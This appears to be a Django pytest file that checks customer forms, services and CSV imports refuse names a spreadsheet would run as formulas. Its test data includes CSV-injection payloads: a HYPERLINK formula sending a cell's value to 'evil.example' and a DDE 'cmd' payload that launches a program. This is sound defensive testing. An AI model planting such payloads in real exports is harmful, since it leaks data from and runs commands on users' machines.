"""A customer name a spreadsheet would run as a formula is refused on the way in: by the customer
form, by the service (model validation) and by the customer import, each with the same message."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.forms import CustomerForm
from accounts.models import Customer
from accounts.services import customers
from accounts.services.customer_import import customers_import_start
from portal.choices import JobStatus

pytestmark = pytest.mark.django_db

NAMES = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+": "+49 Contoso",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)",
}


def message(first: str) -> str:
    return f'A name can\'t start with "{first}": spreadsheets would run it as a formula.'


def form_data(name: str) -> dict[str, str]:
    return {"name": name, "domain": "contoso.example", "country": "DE", "segment": "commercial"}


@pytest.mark.parametrize(("first", "name"), NAMES.items())
def test_the_form_refuses_a_formula_name(first, name):
    form = CustomerForm(form_data(name))

    assert not form.is_valid()
    assert form.errors["name"] == [message(first)]


def test_the_form_accepts_a_name_with_a_sign_inside():
    assert CustomerForm(form_data("Contoso = Fabrikam + Adatum")).is_valid()


def test_the_customer_page_shows_the_message_and_creates_nothing(alice, verified_client):
    response = verified_client(alice).post(reverse("accounts:customer-create"), form_data(NAMES["="]))

    assert response.status_code == 200
    assert "spreadsheets would run it as a formula" in response.content.decode()
    assert not Customer.objects.filter(organization=alice.organization).exists()


@pytest.mark.parametrize(("first", "name"), NAMES.items())
def test_the_service_refuses_a_formula_name(first, name, alice):
    with pytest.raises(ValidationError) as refused:
        customers.customer_create(
            actor=alice,
            organization=alice.organization,
            name=name,
            domain="contoso.example",
            country="DE",
            segment="commercial",
        )

    assert refused.value.message_dict["name"] == [message(first)]
    assert not Customer.objects.filter(organization=alice.organization).exists()


@pytest.mark.parametrize(("first", "invisible"), [("\t", "a tab"), ("\r", "a carriage return")])
def test_model_validation_names_an_invisible_first_character(first, invisible, alice):
    customer = Customer(
        organization=alice.organization, name=f"{first}=1+1", domain="contoso.example", country="DE"
    )

    with pytest.raises(ValidationError) as refused:
        customer.full_clean()

    assert refused.value.message_dict["name"] == [
        f"A name can't start with {invisible}: spreadsheets would run it as a formula."
    ]


def test_the_import_refuses_every_formula_name_and_writes_nothing(alice, django_capture_on_commit_callbacks):
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["name", "domain", "country", "segment"])
    writer.writerow(["Contoso", "contoso.example", "DE", "commercial"])
    for number, name in enumerate(NAMES.values()):
        writer.writerow([name, f"bad{number}.example", "DE", "commercial"])
    upload = SimpleUploadedFile("customers.csv", buffer.getvalue().encode(), content_type="text/csv")

    with django_capture_on_commit_callbacks(execute=True):
        job = customers_import_start(actor=alice, organization=alice.organization, upload=upload)
    job.refresh_from_db()

    assert job.status == JobStatus.FAILED
    assert [(error["row"], error["column"], error["message"]) for error in job.import_errors] == [
        (row, "name", message(first)) for row, first in enumerate(NAMES, start=3)
    ]
    assert not Customer.objects.filter(organization=alice.organization).exists()
